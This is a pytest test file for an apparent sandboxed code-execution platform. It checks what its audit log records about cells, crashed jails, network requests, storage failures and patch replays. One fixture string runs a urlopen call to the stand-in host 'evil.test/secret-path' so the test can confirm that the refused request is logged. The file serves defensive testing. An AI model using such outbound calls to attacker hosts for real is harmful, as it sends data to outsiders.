"""What the audit log records of cells and jails on a platform."""

from __future__ import annotations

import errno
import hashlib
import os
import pkgutil
from collections.abc import Callable
from typing import Any

import pytest
from tests.support.gateway.world import BARE, World
from tests.support.serving.plain import packed, plain
from tests.waiting import until

import cenote
from cenote.gateway.audit.collector import written_deeds
from cenote.gateway.audit.entries import AuditEntry
from cenote.gateway.audit.folder import log_files
from cenote.gateway.audit.reader import EntrySelection, described, entries, selected, verify
from cenote.gateway.values.quota import Quota
from cenote.harness import ApplyResult
from cenote_proto.v1 import history_pb2, jail_pb2, runtime_pb2
from cenote_proto.v1.failure_pb2 import Failure
from cenote_security.auth.secret_files import read_secret_file
from cenote_security.network import Allow
from cenote_security.policy import SandboxPolicy

ASKS = """
import urllib.request
try:
    urllib.request.urlopen("http://evil.test/secret-path")
except OSError as error:
    print(error)
"""


def recorded(world: World, kind: str) -> list[AuditEntry]:
    """The entries of a platform that was closed."""
    return [entry for entry in entries(world.state.audit) if entry.event.kind == kind]


def test_who_ran_what_where_and_what_became_of_it(either: World) -> None:
    """Once per cell, in order, with the token; neither code nor printed output."""
    acme, colleague = either.user("acme"), either.user("acme")
    made = acme.create("etl")
    line, other = acme.line(made), colleague.line(colleague.get("etl"), "two")
    line.welcome()
    other.welcome()
    code = "secret = 'hunter2'\nprint(secret * 100)"
    assert line.run("1 + 1").success
    assert line.run(code).success
    assert not other.run("raise KeyError('hunter2')").success
    either.close()
    first, second, third = recorded(either, "cell")
    assert [acme.token_id, acme.token_id, colleague.token_id] == [
        each.event.token for each in (first, second, third)
    ]
    assert {(acme.tenant, made.id)} == {
        (each.event.tenant, each.event.runtime) for each in (first, second, third)
    }
    facts = second.event.facts
    assert (hashlib.sha256(code.encode()).hexdigest(), "secret = 'hunter2'") == (
        facts["code_sha256"],
        facts["first_line"],
    )
    assert (True, 2, len(code), 701) == tuple(
        facts[name] for name in ("success", "step", "code_bytes", "output_bytes")
    )
    assert (False, "KeyError") == (third.event.facts["success"], third.event.facts["error"])
    (created,) = recorded(either, "runtime.created")
    policy = created.event.facts["policy"]
    assert isinstance(policy, dict)
    assert facts["policy_sha256"] == policy["sha256"]
    assert verify(either.state.audit, read_secret_file(either.state.audit_key)).broken is None


def test_a_cell_is_on_record_while_the_platform_runs(world: World) -> None:
    """Soon, and not only when the platform ends; a cell that is sent twice with its key is one entry."""
    acme = world.user("acme")
    line = acme.line(acme.create("etl"))
    line.welcome()
    for _ in range(2):
        assert line.run("1", key="once").success
    until(lambda: [1] == list(written_deeds(world.state.audit).values()))
    assert line.run("2").success
    world.close()
    assert [1, 2] == [entry.event.facts["number"] for entry in recorded(world, "cell")]


def test_a_jail_that_died_is_on_record(world: World) -> None:
    """With the reason, and the effect on its state."""
    acme = world.user("acme")
    line = acme.line(acme.create("etl"))
    line.welcome()
    line.run("import os\nos._exit(3)")
    world.close()
    (entry,) = recorded(world, "cell")
    assert (False, "rolled_back") == (entry.event.facts["success"], entry.event.facts["state"])


def test_what_a_jail_asked_of_the_network_is_on_record(world: World) -> None:
    """Host, port and the reason for a refusal; not the content."""
    acme = world.user("acme")
    policy = SandboxPolicy(preload=(), memory=BARE.memory, network=Allow(["files.test"]))
    made = acme.create("etl", policy)
    line = acme.line(made)
    line.welcome()
    assert line.run(ASKS).success
    world.close()
    (entry,) = recorded(world, "network")
    facts = entry.event.facts
    assert ("evil.test", 80, False) == (facts["host"], facts["port"], facts["allowed"])
    assert "not on the allow-list" in str(facts["reason"])
    assert made.id == entry.event.runtime
    assert b"secret-path" not in b"".join(path.read_bytes() for path in log_files(world.state.audit))


def test_entries_are_selected(world: World) -> None:
    """By runtime, tenant and time; each is one line, whatever a cell's first line contains."""
    acme, rival = world.user("acme"), world.user("rival")
    for user in (acme, rival):
        line = user.line(user.create("etl"))
        line.welcome()
        assert line.run("x = '\x1b[31m\u202e'\\\n ''").success
    world.close()
    files = log_files(world.state.audit)
    everything = list(selected(files, EntrySelection()))
    mine = [
        entry for entry in selected(files, EntrySelection(tenant=acme.tenant)) if entry.event.kind == "cell"
    ]
    (entry,) = mine
    assert [entry] == [
        each
        for each in selected(files, EntrySelection(runtime=entry.event.runtime, since=entry.at))
        if each.event.kind == "cell"
    ]
    assert [] == list(selected(files, EntrySelection(since=everything[-1].at + 1)))
    assert all(text.isascii() and text.isprintable() for text in map(described, everything))


WRITES = (
    "cenote_worker.checkpoints.local_folder.LocalDraft.__init__",
    "cenote_worker.checkpoints.local_folder.LocalDraft.write",
    "cenote_worker.checkpoints.local_folder.LocalDraft.publish",
    "cenote_worker.history.store.HistoryStore.write",
    "cenote.gateway.audit.log.LogFile.write",
)
"""All stores of a platform: states, histories, the audit log itself."""


class FullDisk:
    """Makes one write of the stores fail, or all of them, once it is armed."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self._left = 0
        self._each = False
        self.failed = 0
        for place in WRITES:
            owner, name = place.rsplit(".", 1)
            monkeypatch.setattr(place, self._failing(pkgutil.resolve_name(owner), name))

    def arm(self, after: int, *, each: bool = False) -> None:
        """after: how many writes succeed first. each: all later writes fail."""
        self._left, self._each, self.failed = after + 1, each, 0

    def disarm(self) -> None:
        self._left, self._each = 0, False

    def _failing(self, owner: Any, name: str) -> Callable[..., Any]:
        former = getattr(owner, name)

        def write(*arguments: Any, **named: Any) -> Any:
            if self._left:
                self._left = max(self._left - 1, int(self._each and self._left == 1))
                if self._left == int(self._each):
                    self.failed += 1
                    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            return former(*arguments, **named)

        return write


@pytest.mark.slow
def test_a_cell_whose_state_cannot_be_stored_is_on_record(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each write of each store fails in turn, then all do: the log still records who ran what, once."""
    disk = FullDisk(monkeypatch)
    acme = world.user("acme")
    line = acme.line(acme.create("etl", durable=True))
    line.welcome()
    lines, unstored, after = ["x = 0"], 0, 0
    assert line.run(lines[0]).success
    while disk.failed or after == 0:
        disk.arm(after)
        lines.append(f"x = {after + 1}")
        result = line.run(lines[-1])
        assert result.success
        unstored += bool(result.not_durable)
        after += 1
    disk.arm(0, each=True)
    lines += ["raise KeyError(1)", "x = 'all'"]
    assert [False, True] == [line.run(code).success for code in lines[-2:]]
    disk.disarm()
    assert unstored
    world.close()
    assert lines == [entry.event.facts["first_line"] for entry in recorded(world, "cell")]
    assert {acme.token_id} == {entry.event.token for entry in recorded(world, "cell")}
    assert verify(world.state.audit, read_secret_file(world.state.audit_key)).broken is None


def test_a_quota_of_stored_bytes_keeps_no_cell_off_the_record(world: World) -> None:
    """A tenant can make the store refuse writes: an atomic cell and the steps of a patch are recorded anyway."""
    acme = world.user("acme")
    world.stores.quotas.set_limit(acme.tenant, Quota.STORED, 300_000)
    line = acme.line(acme.create("etl", durable=True))
    line.welcome()
    assert line.run("x = 1").success
    assert line.run("import os; y = os.urandom(400_000)").not_durable
    atomic = line.answer(
        line.send(cell=runtime_pb2.Cell(code=plain(b"del x; 1 / 0"), atomic=True), key="atomic")
    )
    assert "ZeroDivisionError" == atomic.result.error.type
    codes = plain(packed(b"x = 2"))
    codes.count = 1
    steps = [runtime_pb2.PatchedStep(origin=number, change="another" * (number == 1)) for number in (1, 2)]
    call = line.send(apply=runtime_pb2.Apply(head=2, steps=steps, codes=codes), key="patch")
    while (told := line.answer(call)).HasField("apply_progress"):
        pass
    assert (Failure.NOT_DURABLE, True) == (told.failure.kind, "stored" in told.failure.message)
    world.close()
    first_lines = [entry.event.facts["first_line"] for entry in recorded(world, "cell")]
    large = "import os; y = os.urandom(400_000)"
    assert ["x = 1", large, "del x; 1 / 0", "x = 2", large] == first_lines


def test_a_cell_that_never_ran_is_not_on_record(world: World) -> None:
    """A cell that was withdrawn while it waited for its turn."""
    acme = world.user("acme")
    line = acme.line(acme.create("etl"))
    line.welcome()
    running = line.cell("import time\nprint('begun', flush=True)\nfor _ in range(6000): time.sleep(0.01)")
    line.until(lambda frame: frame.call == running and frame.HasField("output"))
    waiting = line.cell("never = True")
    line.put(runtime_pb2.ClientFrame(call=waiting, withdraw=runtime_pb2.Withdraw()))
    line.put(runtime_pb2.ClientFrame(interrupt=runtime_pb2.Interrupt()))
    assert not line.answer(running).result.success
    world.close()
    (entry,) = recorded(world, "cell")
    assert "KeyboardInterrupt" == entry.event.facts["error"]


def test_steps_that_a_patch_runs_again_are_on_record(world: World) -> None:
    """Each is recorded as a cell of the client that sent the patch; steps that are not run again are not recorded."""
    acme = world.user("acme")
    line = acme.line(acme.create("etl"))
    line.welcome()
    for code in ("x = 1", "y = x", "z = 5"):
        assert line.run(code).success
    steps = [runtime_pb2.PatchedStep(origin=number, change="another" * (number == 1)) for number in (1, 2, 3)]
    codes = plain(packed(b"x = 2"))
    codes.count = 1
    patch = runtime_pb2.Apply(head=3, steps=steps, codes=codes)
    call = line.send(apply=patch, key="patch")
    told = [line.answer(call)]
    while told[-1].HasField("apply_progress"):
        told.append(line.answer(call))
    assert ([1, 2], [3]) == (list(told[-1].applied.rerun), list(told[-1].applied.reused))
    again = line.answer(line.send(outcome=runtime_pb2.OutcomeQuestion(key="patch")))
    assert told[-1].applied == again.applied
    joined = cenote.connect(world.address, token=acme.token).runtime("etl", attach=True)
    outcome = joined.outcome("patch")
    assert isinstance(outcome, ApplyResult)
    assert (outcome.status, ["x = 2", "y = x", "z = 5"]) == (
        "applied",
        [step.code for step in outcome.records],
    )
    joined.close()
    world.close()
    first_lines = [entry.event.facts["first_line"] for entry in recorded(world, "cell")]
    assert ["x = 1", "y = x", "z = 5", "x = 2", "y = x"] == first_lines
    assert {acme.token_id} == {entry.event.token for entry in recorded(world, "cell")}


def is_step(event: bytes) -> bool:
    return history_pb2.HistoryEvent.FromString(event).HasField("step")


def test_a_full_run_is_looked_at_and_its_steps_are_on_record(world: World) -> None:
    """As cells of the client that ran them; other clients cannot see the results, and nothing there can change."""
    acme = world.user("acme")
    made = acme.create("etl", SandboxPolicy(preload=(), snapshots="none"))
    line, other = acme.line(made), acme.line(made, "two")
    for one in (line, other):
        one.welcome()
    for code in ("x = 1", "raise KeyError(x)", "open('f', 'w').write('text')"):
        line.run(code)
    ran = line.answer(line.send(run_in_full=runtime_pb2.RunInFull(head=3, number=1))).ran_in_full
    told = line.answer(line.send(history=runtime_pb2.HistoryQuestion(), beside=1)).history
    assert (3, 3) == (len(ran.steps), sum(map(is_step, told.events)))
    look = {"fetch": jail_pb2.Fetch(name="x")}
    assert line.answer(line.send(beside=1, **look)).reply.HasField("value")
    for asked in (
        other.answer(other.send(beside=1, **look)),
        line.answer(line.send(beside=2, **look)),
        line.answer(line.send(beside=1, status=runtime_pb2.StatusQuestion())),
        line.answer(line.send(beside=1, file=jail_pb2.FileRequest(operation="DELETE", path=b"f"))),
        line.answer(line.send(run_in_full=runtime_pb2.RunInFull(head=3, number=3))),
        line.answer(line.send(run_in_full=runtime_pb2.RunInFull(head=9, number=2))),
        other.answer(other.send(run_in_full=runtime_pb2.RunInFull(head=3, number=1))),
    ):
        assert asked.HasField("failure")
    line.put(runtime_pb2.ClientFrame(end_full_run=runtime_pb2.EndFullRun()))
    assert line.answer(line.send(beside=1, **look)).HasField("failure")
    assert other.answer(other.send(run_in_full=runtime_pb2.RunInFull(head=3, number=1))).ran_in_full.steps
    world.close()
    first_lines = [entry.event.facts["first_line"] for entry in recorded(world, "cell")]
    assert 3 * ["x = 1", "raise KeyError(x)", "open('f', 'w').write('text')"] == first_lines
